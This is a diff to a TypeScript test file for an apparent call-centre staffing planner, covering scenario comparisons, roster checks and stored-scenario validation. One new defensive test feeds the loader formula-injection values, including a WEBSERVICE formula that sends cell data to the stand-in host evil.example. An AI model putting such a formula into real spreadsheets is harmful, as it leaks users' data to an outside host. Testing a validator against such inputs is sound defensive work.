@@ -5,12 +5,14 @@ import { computePlan } from "../../src/planner/plan";
 import { checkRoster, parseRosterColumn } from "../../src/planner/roster";
 import { applyChanges, fromStored, newScenario, scenarioNameProblem, toStored } from "../../src/planner/scenarios";
 import { defaultTargets } from "../../src/planner/targets";
-import { threeRowForecast } from "../support/planner-fixtures";
+import { threeRowForecast, undatedRow } from "../support/planner-fixtures";
 
 const reference: ForecastReference = threeRowForecast;
 
 const rows = (calls: number[]): ForecastRow[] =>
-  calls.map((c, i) => ({ interval: i, intervalLabel: `i${i}`, callsOffered: c, averageHandleSeconds: 300, callsCell: `Forecast!B${i + 2}` }));
+  calls.map((c, i) => undatedRow(i, { interval: i / 48, intervalLabel: `i${i}`, callsOffered: c, averageHandleSeconds: 300 }));
+
+/* eslint-disable @typescript-eslint/no-explicit-any -- stored scenarios are edited as raw JSON */
 
 describe("comparisons", () => {
   const base = newScenario("Base", reference, defaultTargets());
@@ -26,7 +28,7 @@ describe("comparisons", () => {
     ]);
     expect(c.scenarios.map((s) => s.name)).toEqual(["Base", "90/20"]);
     expect(c.rows.map((r) => r.agentsRequired)).toEqual(a.rows.map((r, i) => [r.agentsRequired, b.rows[i].agentsRequired]));
-    expect(c.differences[0]).toEqual({ agentHoursRequired: 0, agentHoursScheduled: 0, fte: 0, dayCost: null, dayServiceLevel: 0, peakAgentsRequired: 0 });
+    expect(c.differences[0]).toEqual({ agentHoursRequired: 0, agentHoursScheduled: 0, fte: 0, peakWeekFte: 0, cost: null, serviceLevel: 0, peakAgentsRequired: 0 });
     expect(c.differences[1].fte).toBeCloseTo(b.summary.fte - a.summary.fte, 12);
     expect(c.differences[1].agentHoursRequired).toBeGreaterThan(0);
     expect(c.intervalCountsDiffer).toBe(false);
@@ -48,8 +50,8 @@ describe("comparisons", () => {
       { scenario: costed, plan: plan(costed, [150]) },
       { scenario: base, plan: plan(base, [100]) },
     ]);
-    expect(c.differences[1].dayCost).toBeGreaterThan(0);
-    expect(c.differences[2].dayCost).toBeNull();
+    expect(c.differences[1].cost).toBeGreaterThan(0);
+    expect(c.differences[2].cost).toBeNull();
   });
 });
 
@@ -75,8 +77,8 @@ describe("roster checks", () => {
     expect(check.intervalsBelowTarget).toBe(1);
     expect(check.rows[1].serviceLevel).toBe(0);
     expect(check.rows[1].averageSpeedOfAnswer).toBe(Infinity);
-    expect(check.dayServiceLevel).toBeCloseTo((100 * check.rows[0].serviceLevel) / 300, 12);
-    expect(check.dayAverageSpeedOfAnswer).toBe(Infinity);
+    expect(check.serviceLevel).toBeCloseTo((100 * check.rows[0].serviceLevel) / 300, 12);
+    expect(check.averageSpeedOfAnswer).toBe(Infinity);
   });
 
   test("an ASA goal flags intervals whose ASA is above target", () => {
@@ -143,5 +145,43 @@ describe("scenarios", () => {
     expect(fromStored("not json")).toBeNull();
     expect(fromStored({ scenarios: [{ id: 1 }] })).toBeNull();
     expect(fromStored([1, 2])).toBeNull();
+  });
+
+  test("scenarios stored before dates were read have no date column, and load as single days", () => {
+    const stored = JSON.parse(JSON.stringify(toStored([base])));
+    delete stored.scenarios[0].forecast.dateColumn;
+    expect(fromStored(stored)).toEqual([base]);
+  });
+
+  test("every stored field is checked as strictly as the form: an edited workbook cannot smuggle a formula in", () => {
+    const edited = (change: (s: Record<string, any>) => void): unknown => {
+      const stored = JSON.parse(JSON.stringify(toStored([base])));
+      change(stored.scenarios[0]);
+      return stored;
+    };
+    const cases: [string, (s: Record<string, any>) => void][] = [
+      ["a formula as the default AHT", (s) => (s.forecast.defaultAhtSeconds = '=WEBSERVICE("https://evil.example/?"&A1)')],
+      ["a default AHT below 0", (s) => (s.forecast.defaultAhtSeconds = -5)],
+      ["a default AHT that is not a number", (s) => (s.forecast.defaultAhtSeconds = "NaN")],
+      ["no AHT column and no default", (s) => (s.forecast.ahtColumn = null)],
+      ["a sheet name Excel refuses", (s) => (s.forecast.sheetName = "Forecast]")],
+      ["a column that is not a column", (s) => (s.forecast.callsColumn = "B1")],
+      ["a first row of 0", (s) => (s.forecast.firstRow = 0)],
+      ["more rows than a plan holds", (s) => (s.forecast.rowCount = 3001)],
+      ["a shrinkage of 100%", (s) => (s.targets.shrinkage = 1)],
+      ["a target as text", (s) => (s.targets.targetServiceLevel = "=1+1")],
+      ["a patience of 0", (s) => (s.targets.patienceSeconds = 0)],
+      ["an unknown goal", (s) => (s.targets.goal = "=cmd")],
+      ["an interval of 20 minutes", (s) => (s.targets.intervalMinutes = 20)],
+      ["a volume factor of 0", (s) => (s.adjustments.volumeFactor = 0)],
+      ["an AHT factor as text", (s) => (s.adjustments.ahtFactor = "1.1")],
+      ["an id that is a formula", (s) => (s.id = "=A1")],
+      ["an empty name", (s) => (s.name = " ")],
+      ["a missing timestamp", (s) => delete s.createdAt],
+    ];
+    for (const [what, change] of cases) expect([what, fromStored(edited(change))]).toEqual([what, null]);
+    // Unknown fields are dropped, not carried into sheets.
+    const extra = fromStored(edited((s) => (s.targets.note = "=WEBSERVICE()")));
+    expect(extra?.[0].targets).toEqual(base.targets);
   });
 });
